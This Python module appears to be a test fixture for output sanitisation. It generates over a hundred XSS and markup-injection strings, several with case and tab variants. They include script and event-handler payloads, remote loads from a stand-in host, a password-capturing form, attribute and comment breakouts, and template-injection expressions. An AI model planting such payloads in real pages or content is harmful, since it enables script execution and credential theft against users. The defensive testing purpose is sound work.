"""Markup that must be shown as text and do nothing: what reports, questions and models may hold."""

from __future__ import annotations

_ELSEWHERE = "http://elsewhere.example"
_TEMPLATES = (
    "<script>window.hit=this</script>",
    "<script src={0}/x.js></script>",
    "<img src={0}/x.png>",
    "<img src=x onerror=window.hit=this>",
    "<svg onload=window.hit=this>",
    "<svg><image href={0}/x.svg /></svg>",
    "<iframe src={0}></iframe>",
    "<iframe srcdoc='<script>parent.hit=this</script>'></iframe>",
    "<object data={0}></object>",
    "<embed src={0}>",
    "<form action={0}><input name=password><button>ok</button></form>",
    "<input autofocus onfocus=window.hit=this>",
    "<body onload=window.hit=this>",
    "<video src={0}/x.mp4 autoplay></video>",
    "<audio src={0}/x.mp3 autoplay></audio>",
    "<link rel=stylesheet href={0}/x.css>",
    "<style>@import '{0}/x.css';</style>",
    "<style>*{{background:url({0}/x.png)}}</style>",
    "<div style='background:url({0}/x.png)'>x</div>",
    "<base href={0}>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<a href=javascript:window.hit=this>x</a>",
    "<a href={0}>x</a>",
    "<details open ontoggle=window.hit=this>x</details>",
    "<math><mtext><img src={0}/m.png></mtext></math>",
    "<picture><source srcset={0}/p.png><img></picture>",
    "![x]({0}/md.png)",
    "[x](javascript:window.hit=this)",
    "[x]: {0}/ref",
    "<{0}>",
    '"><img src={0}/q.png>',
    "'><img src={0}/q.png>",
    "</p></div><img src={0}/c.png>",
    "--><img src={0}/k.png>",
    "]]><img src={0}/d.png>",
    "&lt;img src={0}/e.png&gt;",
    "&#60;img src={0}/n.png&#62;",
    "${{alert(1)}}",
    "{{{{constructor.constructor('window.hit=this')()}}}}",
    "<template><img src={0}/t.png></template>",
)
_DISGUISES = (
    lambda text: text,
    lambda text: text.upper().replace("ELSEWHERE.EXAMPLE", "elsewhere.example"),
    lambda text: text.replace("<", "<\t").replace("<\t/", "</"),
)
PAYLOADS = tuple(
    # letters, since figures that stand in no source are taken out of answers
    disguise(template.format(f"{_ELSEWHERE}/{chr(ord('a') + number % 26) * (1 + number // 26)}"))
    for number, template in enumerate(_TEMPLATES)
    for disguise in _DISGUISES
)
assert len(set(PAYLOADS)) >= 100
